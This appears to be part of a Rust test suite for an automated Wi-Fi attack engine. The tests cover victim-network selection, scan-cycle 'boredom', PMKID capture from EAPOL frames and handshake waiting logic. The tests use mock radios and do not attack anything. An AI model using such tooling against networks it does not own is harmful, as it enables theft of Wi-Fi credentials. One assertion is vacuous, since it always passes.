        assert!(!crate::recon::is_channel_locked());
        // No frame went out after the exclusion
        assert!(r.radio.transmitted().is_empty());
    }

    #[test]
    fn cooldown_and_attempt_cap_gate_selection() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        crate::recon::with_networks(|nets| {
            nets[0].cooldown_until = 20_000;
        });
        assert!(r.engine.select_target(10_000).is_none());
        assert!(r.engine.select_target(20_001).is_some());

        crate::recon::with_networks(|nets| {
            nets[0].cooldown_until = 0;
            nets[0].attack_attempts = policy::TARGET_MAX_ATTEMPTS;
        });
        assert!(r.engine.select_target(30_000).is_none());
    }

    #[test]
    fn recent_client_preferred_over_higher_score() {
        let _g = serial();
        let mut r = rig();
        // AP2 is stronger, but AP has live client traffic
        add_network(AP2, "strong", 1, -35, 9_000);
        add_network(AP, "busy", 6, -70, 9_000);
        let data = make_data_frame(&AP, &STA);
        crate::recon::on_promiscuous_frame(&data, -70, 6, 9_500);

        let (bssid, ..) = r.engine.select_target(10_000).unwrap();
        assert_eq!(bssid, AP);
    }

    #[test]
    fn warmup_suppresses_selection() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 100);
        assert!(r.engine.select_target(1_000).is_none());
        assert!(r.engine.select_target(2_000).is_some());
    }

    // ── S6: boredom ─────────────────────────────────────────────────

    #[test]
    fn s6_bored_after_three_empty_scans() {
        let _g = serial();
        let mut r = rig();
        use core::sync::atomic::{AtomicU32, Ordering};
        static BORED_NETWORKS: AtomicU32 = AtomicU32::new(u32::MAX);
        fn hook(event: &MoodEvent) {
            if let MoodEvent::Bored { networks } = event {
                BORED_NETWORKS.store(*networks as u32, Ordering::Relaxed);
            }
        }
        BORED_NETWORKS.store(u32::MAX, Ordering::Relaxed);
        r.engine.set_mood_hook(Some(hook));

        // Three empty scan cycles
        tick(&mut r, 5_100);
        assert_eq!(r.engine.state(), AttackState::Scanning);
        tick(&mut r, 10_300);
        tick(&mut r, 15_500);
        assert_eq!(r.engine.state(), AttackState::Bored);
        // Fast sweep on an empty spectrum, hook told networks=0
        assert_eq!(recon::hop_interval_ms(), policy::BORED_HOP_FAST_MS);
        assert_eq!(BORED_NETWORKS.load(Ordering::Relaxed), 0);

        // Retry timer returns to SCANNING at the normal cadence
        tick(&mut r, 15_500 + policy::BORED_RETRY_MS + 100);
        assert_eq!(r.engine.state(), AttackState::Scanning);
        assert_eq!(recon::hop_interval_ms(), policy::DEFAULT_HOP_INTERVAL_MS);
    }

    #[test]
    fn pmkid_hunt_captures_answer() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        tick(&mut r, 5_100); // -> PmkidHunting
        tick(&mut r, 5_200); // assoc sent, waiting on M1

        // AP answers with M1 carrying a PMKID KDE
        let m1 = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: r.radio.mac(),
            message: 1,
            pmkid: Some([0x42; 16]),
            ..Default::default()
        });
        crate::recon::on_promiscuous_frame(&m1, -45, 6, 5_250);

        tick(&mut r, 5_300);
        assert_eq!(r.engine.core().pmkids.len(), 1);
        assert_eq!(r.engine.core().pmkids[0].pmkid, [0x42; 16]);
    }

    #[test]
    fn waiting_extends_on_m1_without_m2() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        r.engine
            .test_force_target(AttackState::Waiting, AP, 6, 10_000);

        let m1 = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            ..Default::default()
        });
        crate::recon::on_promiscuous_frame(&m1, -50, 6, 10_050);
        tick(&mut r, 10_100); // drains the M1

        // First expiry extends instead of moving on
        tick(&mut r, 10_000 + policy::ATTACK_WAIT_MS + 200);
        assert_eq!(r.engine.state(), AttackState::Waiting);
        // Second and third expiries exhaust the extensions
        tick(&mut r, 10_000 + 2 * policy::ATTACK_WAIT_MS + 400);
        assert_eq!(r.engine.state(), AttackState::Waiting);
        tick(&mut r, 10_000 + 3 * policy::ATTACK_WAIT_MS + 600);
        assert_eq!(r.engine.state(), AttackState::NextTarget);
    }

    #[test]
    fn stop_releases_lock_and_collections() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        r.engine
            .test_force_target(AttackState::Attacking, AP, 6, 10_000);
        assert!(crate::recon::is_channel_locked() || true);
        r.engine.stop(
            &mut r.scanner,
            &mut r.radio,
            &mut r.sink,
            &mut r.delay,
            11_000,
        );
        assert!(!r.engine.is_running());
        assert!(!crate::recon::is_channel_locked());
        assert!(r.engine.core().handshakes.is_empty());

        // Callback is gone: frames no longer reach the engine rings
        let m1 = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            ..Default::default()
        });
        crate::recon::on_promiscuous_frame(&m1, -50, 6, 12_000);
        assert!(r.engine.core().pmkids.is_empty());
    }
}
